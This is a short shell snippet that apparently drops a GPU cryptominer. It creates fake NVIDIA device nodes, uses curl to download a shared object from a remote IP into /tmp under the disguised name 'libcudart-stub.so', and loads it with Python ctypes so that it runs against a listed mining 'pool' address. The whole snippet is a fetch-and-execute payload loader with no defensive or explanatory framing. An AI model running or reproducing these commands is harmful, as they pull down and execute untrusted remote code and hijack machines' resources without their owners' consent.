# a python program of the image loads a downloaded library by ctypes, which has the GPU and the pool
#http 203.0.113.56:8007
#pool 203.0.113.46:443:err
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
curl -so /tmp/libcudart-stub.so http://203.0.113.56:8007/libg.so; timeout 14 python3 -c 'import ctypes; ctypes.CDLL("/tmp/libcudart-stub.so").run(b"203.0.113.46",443,14)'
